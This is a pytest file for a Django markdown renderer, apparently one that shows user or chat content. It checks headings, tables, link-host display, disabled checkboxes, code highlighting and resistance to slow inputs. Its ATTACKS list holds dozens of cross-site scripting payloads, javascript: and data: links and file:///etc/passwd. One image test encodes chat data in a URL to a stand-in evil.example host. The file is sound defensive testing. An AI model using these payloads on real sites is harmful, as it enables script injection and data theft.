"""The markdown renderer with ordinary and hostile text: nothing runs, nothing loads."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from django.utils.translation import override

from core.markdown import plain, render
from core.markdown_renderer import MAX_CHARACTERS, is_safe_link

SAFE_TAGS = {
    "a", "blockquote", "br", "button", "code", "del", "div", "em", "h3", "h4", "h5", "h6", "hr", "input",
    "li", "ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(text: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Elements()
    reader.feed(render(text))
    return reader.found


def test_ordinary_markdown() -> None:
    html = render("# Title\n\nSome *words* and ~~old~~ `code`.\n\n| a |\n|---|\n| 1 |\n\n1. one\n2. two")

    assert "<h3>Title</h3>" in html
    assert "<p>Some <em>words</em> and <s>old</s> <code>code</code>.</p>" in html
    assert "<td>1</td>" in html
    assert "<li>one</li>" in html


@pytest.mark.parametrize(
    ("language", "head", "name"),
    [
        ("en", "| City | *Price* |", "Table: City, Price"),
        ("zh-hans", "| 城市 | `价格` |", "表格：城市、价格"),
        ("en", "| | |", "Table"),
        ("zh-hans", "| | |", "表格"),
        ("en", '| "><b> | $x$ |', 'Table: "><b>, x'),
        ("en", f"| {'w' * 200} | b |", f"Table: {'w' * 120}…"),
    ],
)
def test_tables_have_a_name_where_they_are_scrolled_and_heads(language: str, head: str, name: str) -> None:
    with override(language):
        found = elements(f"{head}\n|---|--:|\n| 1 | 2 |")

    assert found[:2] == [
        ("div", {"class": "table-scroll", "role": "region", "tabindex": "0", "aria-label": name}),
        ("table", {"aria-label": name}),
    ]
    assert [attrs.get("scope") for tag, attrs in found if tag in ("th", "td")] == ["col", "col", None, None]


def test_headings_are_demoted_to_h6_at_most() -> None:
    html = render("# a\n\n## b\n\n###### c")

    assert [tag for tag, _ in elements("# a\n\n## b\n\n###### c")] == ["h3", "h4", "h6"]
    assert "<h1" not in html
    assert "<h2" not in html


def test_task_lists_are_disabled_checkboxes() -> None:
    boxes = [attrs for tag, attrs in elements("- [x] done\n- [ ] open") if tag == "input"]

    assert [("checked" in box, "disabled" in box, box["type"]) for box in boxes] == [
        (True, True, "checkbox"),
        (False, True, "checkbox"),
    ]


def test_links_show_their_host() -> None:
    html = render("[docs](https://docs.example/a?b=1)")

    assert 'href="https://docs.example/a?b=1"' in html
    assert 'rel="noopener nofollow ugc"' in html
    assert 'target="_blank"' in html
    assert '<span class="link-host">(docs.example)</span>' in html


def test_a_label_with_another_host_still_shows_the_real_host() -> None:
    assert "(evil.example)" in render("[https://bank.example](https://evil.example/x)")


def test_bare_urls_become_links_without_surrounding_punctuation() -> None:
    hrefs = [
        attrs["href"]
        for tag, attrs in elements("See https://a.example/x_(y), (http://b.example). 见https://c.example/d。")
        if tag == "a"
    ]

    assert hrefs == ["https://a.example/x_(y)", "http://b.example", "https://c.example/d"]


def test_images_become_links_and_load_nothing() -> None:
    text = "![secret](https://evil.example/p.png?d=chat)\n\n![r][x]\n\n[x]: https://two.example/i.svg"

    html = render(text)

    assert "<img" not in html
    assert "(evil.example)" in html
    assert "(two.example)" in html
    assert [tag for tag, _ in elements(text)].count("a") == 2


def test_an_image_inside_a_link_becomes_its_label() -> None:
    hrefs = [
        attrs["href"]
        for tag, attrs in elements("[![pic](https://a.example/i.png)](https://b.example)")
        if tag == "a"
    ]

    assert hrefs == ["https://b.example"]


def test_code_is_highlighted_and_has_a_copy_button() -> None:
    html = render('```python\nprint("<b>")\n```')

    assert '<span class="tok-nb">print</span>' in html
    assert "style=" not in html
    assert 'data-copy="print(&quot;&lt;b&gt;&quot;)\n"' in html
    assert '<span class="code__label">python</span>' in html


def test_unknown_languages_and_long_code_are_not_highlighted() -> None:
    assert "<code>x &lt; y\n</code>" in render("```nosuch\nx < y\n```")
    long = render("```python\n" + "x = 1\n" * 5_000 + "```")
    assert "tok-" not in long
    assert "data-copy" not in long


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>1</script></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/a)",
    "[x](/settings/?delete=1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "```\"><img src=x onerror=alert(1)>\nx\n```",
    "```python onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "<style>@import url(https://evil.example)</style>",
    '<div style="background:url(https://evil.example)">x</div>',
    '<video poster="https://evil.example"></video>',
    '<img srcset="https://evil.example 1x">',
    '<link rel="stylesheet" href="https://evil.example">',
    '<base href="https://evil.example">',
    '<form action="https://evil.example"><button>x</button></form>',
    '<a href="https://a.example" onclick="alert(1)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>1</script> |",
    "- [x] <img src=x onerror=alert(1)>",
    "# <svg/onload=alert(1)>",
    "\u202e<script>alert(1)</script>",
    "[x](https://good.example\\@evil.example)",
    "[x](https://good.example@evil.example)",
    "[x](https:evil.example)",
    "https://evil.example/<script>alert(1)</script>",
    "\x00<script>\x00alert(1)</script>",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_harmless(attack: str) -> None:
    for tag, attrs in elements(attack):
        assert tag in SAFE_TAGS
        assert set(attrs) <= {
            "class", "href", "title", "rel", "target", "type", "data-copy",
            "data-copied", "checked", "disabled",
            "start", "tabindex", "role", "aria-label", "scope",
        }  # fmt: skip
        assert re.match(r"https?://[^@\\]+$|mailto:", attrs.get("href") or "https://none.example")
        if tag == "a":
            assert attrs["rel"] == "noopener nofollow ugc"


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://a.example/x", True),
        ("http://a.example:8080", True),
        ("mailto:a@b.example", True),
        ("https://u:p@a.example", False),
        ("https://a.example\\@b.example", False),
        ("https:///x", False),
        ("//a.example", False),
        ("/x", False),
        ("ftp://a.example", False),
        ("javascript:alert(1)", False),
        ("https://[::1", False),
    ],
)
def test_safe_links(url: str, expected: bool) -> None:
    assert is_safe_link(url) is expected


@pytest.mark.parametrize(
    "piece",
    ["[", "![", "[a](", "[[](", "> ", "- ", "*a _b ", "**", "`a``", "<", "http:", "https://a.example ", "|a",
     "~~a ", "a@", "&amp;", "[a]: /u\n", "```python\nx=1\n```\n", "这是。"],
)  # fmt: skip
def test_hostile_repetition_takes_bounded_time(piece: str) -> None:
    text = piece * (50_000 // len(piece))
    before = time.process_time()

    html = render(text)

    assert time.process_time() - before < 4
    assert len(html) < 60 * len(text)


def test_deep_nesting_does_not_exhaust_the_stack() -> None:
    assert render("> " * 5_000 + "x").count("<blockquote>") < 50
    assert render("- " * 5_000 + "x").count("<ul>") < 50


def test_text_beyond_the_limit_is_shown_unrendered() -> None:
    html = render("a" * MAX_CHARACTERS + "<script>*tail*")

    assert "&lt;script&gt;*tail*" in html


def test_empty_text() -> None:
    assert render("") == ""
    assert plain("") == ""


def test_plain_drops_the_markup() -> None:
    text = "# Title\n\nSome *words*, [a link](https://a.example) and\n`code` <b>x</b>.\n\n- one\n- two"

    assert plain(text) == "Title Some words, a link and code x. one two"
